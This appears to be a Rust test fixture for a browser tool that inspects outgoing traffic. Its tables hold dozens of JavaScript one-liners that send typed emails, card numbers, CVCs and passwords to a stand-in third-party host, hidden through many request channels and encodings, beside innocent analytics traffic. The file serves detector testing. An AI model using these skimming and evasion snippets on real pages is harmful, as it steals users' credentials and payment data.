//! Ways in which a page passes on what was typed, and innocent traffic beside them: what the inspection has to
//! tell apart, in a table for the tests and for `cargo xtask bench`.

use crate::{Page, Visitor, json};

/// What a page does, in JavaScript: `X` is an address of a company that nobody has declared, `PAY` and `STATS`
/// are declared; values and ways to write them are in `leaks.js`.
#[derive(Clone, Copy, Debug)]
pub struct Case {
    /// What it is called.
    pub name: &'static str,
    /// What the page does.
    pub act: &'static str,
}

const fn case(name: &'static str, act: &'static str) -> Case {
    Case { name, act }
}

/// What has to be told.
pub const LEAKS: &[Case] = &[
    case("fetch, address, plain", "fetch(X + '?e=' + E)"),
    case("fetch, address, percent-encoded", "fetch(X + '?e=' + pct(E))"),
    case("fetch, address, percent-encoded twice", "fetch(X + '?e=' + pct(pct(E)))"),
    case("fetch, JSON, plain", "fetch(X, post(JSON.stringify({ email: E })))"),
    case("fetch, JSON, escaped", r"fetch(X, post(JSON.stringify({ email: E }).replace('@', '\\u0040')))"),
    case("Request, plain", "fetch(new Request(X, post(E)))"),
    case("fetch, Blob, plain", "fetch(X, post(new Blob([E])))"),
    case("fetch, header, plain", "fetch(X, { headers: { 'x-a': E } })"),
    case("XHR, form-urlencoded", "xhr(X, new URLSearchParams({ e: E }))"),
    case("XHR, FormData", "{ const data = new FormData(); data.append('e', E); xhr(X, data); }"),
    case("beacon, md5", "navigator.sendBeacon(X, MD5)"),
    case(
        "beacon, Blob with JSON, sha256",
        "navigator.sendBeacon(X, new Blob([JSON.stringify({ em: sha256L })], { type: 'application/json' }))",
    ),
    case("img.src, sha256", "new Image().src = X + '?u=' + sha256L"),
    case("img.src, sha256 in upper case", "new Image().src = X + '?u=' + sha256L.toUpperCase()"),
    case("setAttribute, sha1", "document.createElement('img').setAttribute('src', X + '?u=' + sha1L)"),
    case("innerHTML, base64", "box().innerHTML = '<p><img src=\"' + X + '?d=' + pct(btoa(E)) + '\"></p>'"),
    case(
        "script.src, base64url",
        "{ const s = document.createElement('script'); s.src = X + '?d=' + b64url(E); document.head.append(s); }",
    ),
    case(
        "iframe.src, path",
        "{ const f = document.createElement('iframe'); f.src = X + '/' + pct(E) + '/x'; box().append(f); }",
    ),
    case(
        "link, prefetch",
        "{ const l = document.createElement('link'); l.rel = 'prefetch'; l.href = X + '?' + E; document.head.append(l); }",
    ),
    case("style attribute, hex", "box().style.backgroundImage = 'url(' + X + '?' + hex(E) + ')'"),
    case(
        "style element, hex",
        "{ const s = document.createElement('style'); s.textContent = 'h1 { background: url(\"' + X + '?' + hex(E) + '\") }'; document.head.append(s); }",
    ),
    case(
        "insertRule, hex",
        "{ const s = document.createElement('style'); document.head.append(s); s.sheet.insertRule('h1 { background: url(' + X + '?' + hex(E) + ') }'); }",
    ),
    case("WebSocket frame, plain", "new WebSocket(X.replace('http', 'ws')).send(E)"),
    case(
        "WebSocket frame, base64 of JSON",
        "new WebSocket(X.replace('http', 'ws')).send(btoa(JSON.stringify({ email: E })))",
    ),
    case("EventSource, md5", "new EventSource(X + '?u=' + MD5)"),
    case("requestSubmit, card", "formTo(X, { card: C }).requestSubmit()"),
    case("form.submit, card", "formTo(X, { card: C }).submit()"),
    case("location, card's digits", "follow(X + '?c=' + digits(C))"),
    case("window.open, password", "window.open(X + '?p=' + P)"),
    case("ping, phone", "pings(X + '?t=' + pct(T))"),
    case("new Image, card with dashes", "new Image().src = X + '?c=' + C.replaceAll(' ', '-')"),
    case("fetch, base64 twice", "fetch(X, post(btoa(btoa(C))))"),
    case(
        "fetch, base64 of JSON in JSON",
        "fetch(X, post(JSON.stringify({ d: btoa(JSON.stringify({ email: E })) })))",
    ),
    case("fetch, sha256 of the address as Gmail has it", "fetch(X + '?u=' + sha256G)"),
    case("fetch, sha256 of the phone in E.164", "fetch(X + '?u=' + sha256T)"),
    case("fetch, base64 of a raw sha256", "fetch(X + '?u=' + pct(rawB64))"),
    case("fetch, md5 of sha1", "fetch(X + '?u=' + MD5SHA1)"),
    case("fetch, salted sha256", "fetch(X + '?u=' + sha256S)"),
    case("fetch, gzip", "fetch(X, post(zipped))"),
    case("fetch, password to who may count visits", "fetch(STATS, post(new URLSearchParams({ p: P })))"),
    case("fetch, card and its code", "fetch(X, post(JSON.stringify({ cvv: V, pan: digits(C) })))"),
    case(
        "worker without an address",
        "new Worker(URL.createObjectURL(new Blob(['onmessage = () => {}']))).postMessage(E)",
    ),
    case("fetch, to a declared place before sending", "fetch(PAY, post(E))"),
    case("fetch, reversed", "fetch(X, post([...E].reverse().join('')))"),
];

/// What may not be told: nothing that was typed is in it, or it goes where it may.
pub const INNOCENT: &[Case] = &[
    case(
        "a page view",
        "fetch(X + '?v=1&t=pageview&dl=' + pct(location.href) + '&dt=A%20page&sr=1920x1080')",
    ),
    case("a random id in hex", "fetch(X + '?id=9f86d081884c7d659a2feaa0c55ad015')"),
    case("a UUID", "fetch(X + '?id=f47ac10b-58cc-4372-a567-0e02b2c3d479')"),
    case("a token", "fetch(X + '?t=q0Zk1V5mYxJ2c3RhdGVtZW50LXRva2Vu')"),
    case(
        "a JWT",
        "fetch(X, { headers: { authorization: 'Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U' } })",
    ),
    case("a mail provider's name", "fetch(X + '?domain=gmail.com')"),
    case("the card's code within a time", "fetch(X + '?ts=1737936004')"),
    case("an order number like the card's", "fetch(X + '?order=411111-2026')"),
    case("the site's own server", "fetch('/receive/validate', post(JSON.stringify({ email: E })))"),
    case("a picture of 133 KB", "fetch(X, post('data:image/png;base64,' + noise(133_000)))"),
    case(
        "a hash of a script",
        "fetch(X + '?i=sha384-oqVuAfXRKap7fdgcCY5uykM6%2BR9GqQ8K%2FuxK1jG3n0b1k2l3m4n5o6p7q8r9s0tu')",
    ),
    case("hasOwnProperty", "fetch(X, post('Object.prototype.hasOwnProperty.call(a, b)'))"),
    case("a hash of somebody else's address", "fetch(X + '?u=' + sha256Other)"),
    case(
        "that a field has the focus",
        "fetch(STATS, post(JSON.stringify({ event: 'email_field_focused' })))",
    ),
    case("an address that stands in the page", "fetch(X + '?contact=office@shop.example')"),
    case("the first two letters", "fetch(X + '?q=Ja')"),
    case("a packed text without it", "fetch(X, post(zippedClean))"),
    case("a word with a name in it", r#"fetch(X, post("it doesn't matter"))"#),
    case("a picture that is not loaded from anywhere", "new Image().src = 'data:text/plain,' + E"),
];

/// Harder ones: requests that are made in unusual ways.
pub const REQUESTS: &[Case] = &[
    case("Request with another body", "fetch(new Request(X, post('nothing')), post(E))"),
    case("Request, cloned", "fetch(new Request(X, post(E)).clone())"),
    case("Request of a Request", "fetch(new Request(new Request(X, post(E))))"),
    case("Request, header", "fetch(new Request(X, { headers: { 'x-a': btoa(E) } }))"),
    case("URL object", "fetch(new URL(X + '?e=' + pct(E)))"),
    case(
        "stream",
        "fetch(X, streams ? { method: 'POST', body: new Blob([E]).stream(), duplex: 'half' } : post(E))",
    ),
    case("method", "fetch(X, { method: hex(L) })"),
    case(
        "multipart by hand",
        r#"fetch(X, { method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=xx' }, body: '--xx\r\nContent-Disposition: form-data; name="m"\r\n\r\n' + E + '\r\n--xx--\r\n' })"#,
    ),
    case(
        "GraphQL",
        "fetch(X, post(JSON.stringify({ query: 'mutation A($e: String!) { a(e: $e) { id } }', variables: { e: E } })))",
    ),
    case(
        "protobuf",
        "fetch(X, post(Uint8Array.of(8, 1, 18, E.length, ...new TextEncoder().encode(E), 24, 0)))",
    ),
    case(
        "MessagePack",
        "fetch(X, post(Uint8Array.of(129, 161, 101, 160 + E.length, ...new TextEncoder().encode(E))))",
    ),
    case(
        "a part of a buffer",
        "{ const all = new TextEncoder().encode('xxxx' + E + 'yyyy'); fetch(X, post(all.subarray(4, 4 + E.length))); }",
    ),
    case(
        "FormData in a beacon",
        "{ const d = new FormData(); d.append('e', E); navigator.sendBeacon(X, d); }",
    ),
    case(
        "a file in FormData",
        "{ const d = new FormData(); d.append('f', new File([E], 'a.txt')); fetch(X, post(d)); }",
    ),
    case(
        "a file's name",
        "{ const d = new FormData(); d.append('f', new File(['x'], E)); fetch(X, post(d)); }",
    ),
    case("URLSearchParams in a beacon", "navigator.sendBeacon(X, new URLSearchParams({ e: E }))"),
    case("bytes in a beacon", "navigator.sendBeacon(X, new TextEncoder().encode(E).buffer)"),
    case("beacon by the prototype", "Navigator.prototype.sendBeacon.call(navigator, X, E)"),
    case("fetch by Reflect", "Reflect.apply(fetch, undefined, [X, post(E)])"),
    case("XHR, document", "xhr(X, new DOMParser().parseFromString('<a>' + E + '</a>', 'text/xml'))"),
    case("XHR, user name", "{ const r = new XMLHttpRequest(); r.open('POST', X, true, L, 'x'); r.send(); }"),
    case("XHR, method", "{ const r = new XMLHttpRequest(); r.open(hex(L), X); r.send(); }"),
    case(
        "XHR, synchronous",
        "{ const r = new XMLHttpRequest(); r.open('POST', X, false); try { r.send(E); } catch {} }",
    ),
    case("WebSocket, protocol", "new WebSocket(X.replace('http', 'ws'), [hex(L)])"),
    case("WebSocket, Blob", "new WebSocket(X.replace('http', 'ws')).send(new Blob([E]))"),
    case("EventSource, plain", "new EventSource(X + '?e=' + pct(E))"),
    case("another window's fetch", "frame().fetch(X, post(E))"),
    case(
        "another window's FormData",
        "{ const d = new (frame().FormData)(); d.append('e', E); fetch(X, post(d)); }",
    ),
    case("another window's Blob", "fetch(X, post(new (frame().Blob)([E])))"),
    case("another window's beacon", "frame().navigator.sendBeacon(X, E)"),
    case(
        "another window's XHR",
        "{ const r = new (frame().XMLHttpRequest)(); r.open('POST', X); r.send(E); }",
    ),
    case(
        "another window's submit",
        "{ const { prototype } = frame().HTMLFormElement; prototype.submit.call(formTo(X, { c: C })); }",
    ),
];

/// Harder ones: what elements load, and the page going elsewhere.
pub const ELEMENTS: &[Case] = &[
    case("srcset", "new Image().srcset = X + '?e=' + pct(E) + ' 2x'"),
    case(
        "source of a picture",
        "box().innerHTML = '<picture><source srcset=\"' + X + '?e=' + pct(E) + '\"><img></picture>'",
    ),
    case(
        "preconnect, host",
        "{ const l = document.createElement('link'); l.rel = 'preconnect'; l.href = X.replace('//', '//' + hex(L) + '.'); document.head.append(l); }",
    ),
    case(
        "template",
        "{ const t = document.createElement('template'); t.innerHTML = '<img src=\"' + X + '?e=' + pct(E) + '\">'; box().append(t.content.cloneNode(true)); }",
    ),
    case(
        "DOMParser",
        "box().append(new DOMParser().parseFromString('<img src=\"' + X + '?e=' + pct(E) + '\">', 'text/html').body.firstChild)",
    ),
    case(
        "fragment",
        "box().append(document.createRange().createContextualFragment('<img src=\"' + X + '?e=' + pct(E) + '\">'))",
    ),
    case(
        "insertAdjacentHTML",
        "box().insertAdjacentHTML('beforeend', '<img src=\"' + X + '?e=' + pct(E) + '\">')",
    ),
    case("outerHTML", "box().outerHTML = '<img src=\"' + X + '?e=' + pct(E) + '\">'"),
    case("setHTMLUnsafe", "box().setHTMLUnsafe('<img src=\"' + X + '?e=' + pct(E) + '\">')"),
    case("style.background", "box().style.background = 'url(' + X + '?' + pct(E) + ')'"),
    case("cssText", "box().style.cssText = 'background: url(' + X + '?' + pct(E) + ')'"),
    case("style attribute", "box().setAttribute('style', 'background: url(' + X + '?' + pct(E) + ')')"),
    case(
        "@import",
        "{ const s = document.createElement('style'); s.textContent = '@import \"' + X + '?' + hex(E) + '\";'; document.head.append(s); }",
    ),
    case("image-set", "box().style.cssText = 'background: image-set(\"' + X + '?' + hex(E) + '\" 1x)'"),
    case("FontFace", "new FontFace('x', 'url(' + X + '?' + hex(E) + ')').load().catch(() => {})"),
    case(
        "adopted style sheet",
        "{ const s = new CSSStyleSheet(); s.replaceSync('h1 { background: url(' + X + '?' + hex(E) + ') }'); document.adoptedStyleSheets.push(s); }",
    ),
    case("poster", "document.createElement('video').poster = X + '?e=' + pct(E)"),
    case("Audio", "new Audio(X + '?e=' + pct(E))"),
    case(
        "object",
        "{ const o = document.createElement('object'); o.data = X + '?e=' + pct(E); box().append(o); }",
    ),
    case(
        "embed",
        "{ const o = document.createElement('embed'); o.src = X + '?e=' + pct(E); box().append(o); }",
    ),
    case("SVG image, attribute", "svgImage().setAttribute('href', X + '?e=' + pct(E))"),
    case(
        "SVG image, with a namespace",
        "svgImage().setAttributeNS('http://www.w3.org/1999/xlink', 'xlink:href', X + '?e=' + pct(E))",
    ),
    case("SVG image, property", "svgImage().href.baseVal = X + '?e=' + pct(E)"),
    case(
        "attribute node",
        "{ const a = document.createAttribute('src'); a.value = X + '?e=' + pct(E); new Image().setAttributeNode(a); }",
    ),
    case(
        "attribute node in the map",
        "{ const a = document.createAttribute('src'); a.value = X + '?e=' + pct(E); new Image().attributes.setNamedItem(a); }",
    ),
    case(
        "attribute's value",
        "{ const i = new Image(); i.setAttribute('src', 'data:,'); i.attributes.src.value = X + '?e=' + pct(E); }",
    ),
    case(
        "an attribute with a style's address",
        "svgImage().setAttribute('mask', 'url(' + X + '?e=' + pct(E) + '#m)')",
    ),
    case(
        "worklet",
        "new OfflineAudioContext(1, 1, 44100).audioWorklet?.addModule(X + '?e=' + pct(E)).catch(() => {})",
    ),
    case("location.replace", "location.replace(X + '?e=' + pct(E))"),
    case("location.assign", "location.assign(X + '?e=' + hex(E))"),
    case(
        "a download",
        "{ const a = document.createElement('a'); a.href = X + '?e=' + pct(E); a.download = ''; box().append(a); a.click(); }",
    ),
    case(
        "a link to another window",
        "{ const a = document.createElement('a'); a.href = X + '?e=' + pct(E); a.target = '_blank'; box().append(a); a.click(); }",
    ),
    case("a form by GET", "{ const f = formTo(X, { e: E }); f.method = 'get'; f.requestSubmit(); }"),
    case(
        "a button's own address",
        "{ const f = formTo('/receive/x', { e: E }), b = document.createElement('button'); b.formAction = X; f.append(b); f.requestSubmit(b); }",
    ),
];

/// Harder ones: wire formats of services, and other ways to write it.
pub const CODES: &[Case] = &[
    case(
        "GA4, user data",
        "fetch(X + '/g/collect?v=2&tid=G-1&em=' + sha256L.slice(0, 64) + '&en=form_start')",
    ),
    case(
        "a pixel, advanced matching",
        "new Image().src = X + '?id=1&ev=PageView&ud%5Bem%5D=' + sha256L + '&ud%5Bfn%5D=x'",
    ),
    case(
        "a batch of events",
        "navigator.sendBeacon(X, JSON.stringify({ batch: [{ type: 'identify', traits: { email: L } }], sentAt: 1 }))",
    ),
    case("data=base64 of JSON", "xhr(X, 'data=' + pct(btoa(JSON.stringify({ properties: { $email: E } }))))"),
    case(
        "an envelope of lines",
        r"fetch(X, post('{}\n{}\n' + JSON.stringify({ request: { data: 'email=' + pct(E) } })))",
    ),
    case("a replay, packed", "fetch(X, post(zippedReplay))"),
    case("sha512", "fetch(X + '?h=' + sha512L)"),
    case("sha384 in base64url", "fetch(X + '?h=' + sha384L)"),
    case("sha256 of sha256", "fetch(X + '?h=' + sha256Twice)"),
    case("sha256 of the address in upper case", "fetch(X + '?h=' + sha256Upper)"),
    case("upper case", "fetch(X + '?e=' + pct(E.toUpperCase()))"),
    case("without the tag", "fetch(X + '?e=jane.doe%40gmail.com')"),
    case("the phone's digits", "fetch(X + '?t=' + digits(T))"),
    case("the phone as at home", "fetch(X + '?t=015123456789')"),
    case(
        "rot13",
        "fetch(X, post(E.replace(/[a-z]/gi, c => String.fromCharCode((c <= 'Z' ? 90 : 122) >= (c = c.charCodeAt() + 13) ? c : c - 26))))",
    ),
    case("numbers of characters", "fetch(X, post(JSON.stringify([...E].map(c => c.charCodeAt()))))"),
    case("entities", "fetch(X, post([...E].map(c => '&#' + c.charCodeAt() + ';').join('')))"),
    case("hex with spaces", "fetch(X, post(hex(E).replace(/../g, '$& ')))"),
    case(
        "base64 in a JWT",
        "fetch(X + '?t=eyJhbGciOiJub25lIn0.' + b64url(JSON.stringify({ sub: E })) + '.')",
    ),
    case("percent, base64, JSON, base64", "fetch(X + '?d=' + pct(btoa(JSON.stringify({ d: btoa(E) }))))"),
    case(
        "the card in two parts",
        "fetch(X, post(JSON.stringify({ a: digits(C).slice(0, 8), b: digits(C).slice(8) })))",
    ),
    case("the name by its parts", "fetch(X, post(JSON.stringify({ firstName: 'Jane', lastName: 'Doe' })))"),
    case("the password, reversed in base64", "fetch(X, post(btoa([...P].reverse().join(''))))"),
];

/// More that is innocent.
pub const HARMLESS: &[Case] = &[
    case(
        "GA4, a page view",
        "fetch(X + '/g/collect?v=2&tid=G-ABC123&gtm=45je4&_p=1737936004123&cid=1234567890.1737936004&ul=en-us&sr=1920x1080&_s=1&sid=1737936004&sct=1&seg=1&dl=' + pct(location.href) + '&dt=Order&en=page_view&_ee=1')",
    ),
    case(
        "Matomo, a page view",
        "navigator.sendBeacon(X, 'action_name=Order&idsite=1&rec=1&r=737004&h=12&m=7&s=37&_id=9f86d081884c7d65&send_image=0')",
    ),
    case(
        "an error report without values",
        r#"fetch(X, post('{"event_id":"fc6d8c0c43fc4630ad850ee518f1b9d0","sent_at":"2026-11-20T10:00:00Z"}\n{"type":"event"}\n' + JSON.stringify({ exception: { values: [{ type: 'TypeError', value: 'x is undefined', stacktrace: { frames: [{ filename: 'app.js', lineno: 737 }] } }] } })))"#,
    ),
    case(
        "web vitals",
        "navigator.sendBeacon(X, JSON.stringify({ name: 'LCP', value: 2411.11, rating: 'good', id: 'v4-1737936004123-4111111' }))",
    ),
    case("tiles of a map", "new Image().src = X + '/tiles/14/8802/5373.png?v=411111'"),
    case("a captcha's token", "fetch(X, post('h-captcha-response=' + noise(2400)))"),
    case(
        "movements of a pointer",
        "fetch(X, post(JSON.stringify({ motion: Array.from({ length: 800 }, (_, i) => [i * 7 % 1280, i * 37 % 720, 1737936004000 + i * 16]) })))",
    ),
    case("what is searched for at home", "fetch('/receive/suggest?q=' + pct('Jane D'))"),
    case("an upload of 700 KB", "fetch(X, post(bytes(700_000)))"),
    case(
        "a socket's heartbeat",
        "{ const s = new WebSocket(X.replace('http', 'ws')); for (let i = 0; i < 20; i++) s.send(JSON.stringify({ type: 'ping', n: i })); }",
    ),
    case(
        "a style sheet",
        "{ const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = X + '/css2?family=Inter:wght@400;700&display=swap'; document.head.append(l); }",
    ),
    case("another Jane", "new Image().src = X + '/covers/jane-austen-emma.jpg'"),
    case("a country's code", "fetch(X + '?prefix=%2B49&country=DE')"),
    case(
        "a consent string",
        "fetch(X + '?gdpr=1&gdpr_consent=CPXxRfAPXxRfAAfKABENB-CgAAAAAAAAAAYgAAAAAAAA')",
    ),
    case(
        "prices and sizes",
        "fetch(X, post(JSON.stringify({ cart: [{ sku: '4111-1111', price: 151.23, qty: 7 }], total: 737 })))",
    ),
    case(
        "a page of HTML",
        "box().innerHTML = '<p>Jane Eyre, by e-mail</p><img src=\"' + X + '/cover.png?w=411&h=111\">'",
    ),
    case(
        "a frame with a script of its own",
        "{ const f = document.createElement('iframe'); f.srcdoc = '<script>parent.x = 1<' + '/script>'; box().append(f); }",
    ),
    case(
        "a preview in a frame",
        "{ const f = document.createElement('iframe'); f.srcdoc = '<p>Dear ' + E + '</p>'; box().append(f); }",
    ),
    case(
        "a download made here",
        "{ const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([E])); a.download = 'a.txt'; box().append(a); a.click(); }",
    ),
    case(
        "a worker for sums",
        "new Worker(URL.createObjectURL(new Blob(['onmessage = () => {}']))).postMessage({ sum: [1, 2, 3], text: 'nothing' })",
    ),
    case("a scheduler's message", "new MessageChannel().port1.postMessage(E)"),
    case("a class of SVG", "svgImage().className.baseVal = 'jane doe'"),
];

/// What is typed into which field.
pub const TYPED: &[(&str, &str)] = &[
    ("email", "Jane.Doe+shop@gmail.com"),
    ("card", "4111 1111 1111 1111"),
    ("password", "hunter2Zq!9"),
    ("phone", "+49 151 23456789"),
    ("name", "Jane Doe"),
    ("cvc", "737"),
];

/// Whether the part that looks into what leaves has been fetched.
pub const LOADED: &str =
    "performance.getEntriesByType('resource').some(one => /split_egress/.test(one.name) && one.responseEnd)";

/// Where a case sends to: a name of its own, so that each is a cause of its own.
pub fn destination(visitor: &Visitor, name: &str) -> String {
    visitor.site().other.origin(&format!("{name}.localhost"))
}

/// Opens the page in a mode, and types everything.
pub async fn open(visitor: &Visitor, mode: &str) {
    let (pay, stats) = (destination(visitor, "pay"), destination(visitor, "stats"));
    let page = Page::of("leaks.html")
        .before_loader(r#"<script src="/fixtures/socket.js"></script>"#)
        .configured(|config| {
            config["egress"] = json!({ "mode": mode, "destinations": [
            { "origin": pay, "data": ["contact", "financial"], "when": "after-submit" },
            { "origin": stats, "data": [] },
        ] });
        });
    visitor.site().page("/", page);
    visitor.visits("/").await;
    visitor.runs("privacyWidget.rejectAll()").await;
    visitor.sees("!banner() && window.readyToLeak").await;
    for (field, text) in TYPED {
        visitor.types(&format!("[name={field}]"), text).await;
    }
    is_watched(visitor).await;
}

/// Waits until the inspection has begun: until then, requests wait.
pub async fn is_watched(visitor: &Visitor) {
    visitor.sees(LOADED).await;
    visitor.evaluates("fetch('data:,').then(() => true, () => true)").await;
    visitor.rests().await;
}

/// Has the page do these, each to a place of its own whose name begins with `prefix`; gives for each whether
/// something was told of it.
pub async fn told(visitor: &Visitor, prefix: &str, cases: &[Case]) -> Vec<bool> {
    let (pay, stats) = (destination(visitor, "pay"), destination(visitor, "stats"));
    let before = "const heard = seen.events.filter(event => event.type === 'leak').length;";
    let mut all = Vec::new();
    for (at, case) in cases.iter().enumerate() {
        let there = destination(visitor, &format!("{prefix}{at}")) + "/receive/x";
        let act =
            if case.act.starts_with('{') { format!("undefined; {}", case.act) } else { case.act.to_owned() };
        let script = format!(
            "(() => {{ const X = {}, PAY = {}, STATS = {};
               try {{ const made = {act}; made?.catch?.(() => {{}}); }} catch {{ /* It was stopped. */ }} }})()",
            json!(there),
            json!(format!("{pay}/receive/x")),
            json!(format!("{stats}/receive/x")),
        );
        visitor.runs(&format!("{before} window.heard = heard; act({})", json!(script))).await;
        // Told at once, or after what is read and observed asynchronously.
        visitor.rests().await;
        let told = visitor
            .evaluates("seen.events.filter(event => event.type === 'leak').length > window.heard")
            .await;
        all.push(told == json!(true));
    }
    all
}
